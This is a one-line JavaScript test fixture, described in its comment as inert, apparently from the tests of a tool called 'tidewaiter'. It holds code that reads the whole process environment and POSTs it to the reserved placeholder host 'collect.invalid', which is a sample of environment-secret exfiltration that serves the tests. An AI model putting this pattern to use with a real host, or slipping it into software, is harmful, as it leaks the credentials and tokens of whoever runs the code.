// Inert fixture of tidewaiter's tests: never run. Hosts are reserved names or this machine.
var http=require("http");function C(){this.d=null;}C.prototype.collect=function(){this.d=JSON.stringify(process.env);};C.prototype.send=function(){var r=http.request({host:"collect.invalid",method:"POST"});r.write(this.d);r.end();};var c=new C();c.collect();c.send();
